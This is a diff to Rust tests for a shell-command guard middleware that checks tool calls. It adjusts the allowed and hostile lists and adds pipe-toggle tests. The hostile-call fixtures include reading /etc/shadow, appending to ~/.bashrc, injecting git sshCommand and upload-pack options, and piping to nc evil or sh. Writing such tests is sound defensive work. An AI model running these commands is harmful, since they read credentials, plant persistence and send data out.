@@ -24,6 +24,8 @@ impl Workspace {
         let _ = std::fs::remove_dir_all(&root);
         std::fs::create_dir_all(root.join("src")).unwrap();
         std::fs::create_dir_all(root.join("docs")).unwrap();
+        // a repository root (git is admitted only inside one)
+        std::fs::create_dir_all(root.join(".git")).unwrap();
         std::fs::write(root.join("src/main.rs"), "fn main() {}\n").unwrap();
         #[cfg(unix)]
         {
@@ -155,8 +157,8 @@ fn hostile_calls() -> Vec<ToolCall> {
             "ls > /tmp/out",
             "echo x >> ~/.bashrc",
             "cat < /etc/shadow",
-            "ls 2>/dev/null",
-            "echo hi >&2",
+            "ls 3>/dev/null",
+            "echo hi >&3",
             "cat <<EOF",
             "echo hi > escape/x",
             // paths as operands
@@ -194,6 +196,8 @@ fn hostile_calls() -> Vec<ToolCall> {
             "git -c core.sshCommand=evil fetch",
             "git --upload-pack=evil ls-remote",
             "rg --pre ./evil.sh foo",
+            // cargo runs workspace code: not in the default allow list
+            "cargo test -p foo",
             // empty
             "",
             "   ",
@@ -253,7 +257,9 @@ fn ordinary_inputs_are_admitted() {
         sh("grep -rn 'fn main' src"),
         sh("git status"),
         sh("git log --oneline -5"),
-        sh("cargo test -p foo"),
+        // descriptors 1 and 2 and /dev/null are understood
+        sh("ls 2>/dev/null"),
+        sh("echo hi >&2"),
         sh("echo 'hello; world'"),
         sh("echo \"a && b\""),
         sh("find src -name '*.rs'"),
@@ -283,6 +289,15 @@ fn pipes_are_admitted_only_when_allowed_and_every_stage_is_checked() {
     assert!(guard
         .check_call(&sh("cat src/main.rs | grep main | wc -l"), d.as_ref())
         .is_ok());
+    // pipes are on by default; `allow_pipes(false)` turns them off
+    assert!(ShellFsGuardMiddleware::new()
+        .check_call(&sh("cat src/main.rs | wc -l"), d.as_ref())
+        .is_ok());
+    let err = ShellFsGuardMiddleware::new()
+        .allow_pipes(false)
+        .check_call(&sh("cat src/main.rs | wc -l"), d.as_ref())
+        .unwrap_err();
+    assert!(err.contains("allow_pipes"), "{err}");
     for bad in [
         "cat src/main.rs | nc evil 80",
         "ls | sh",
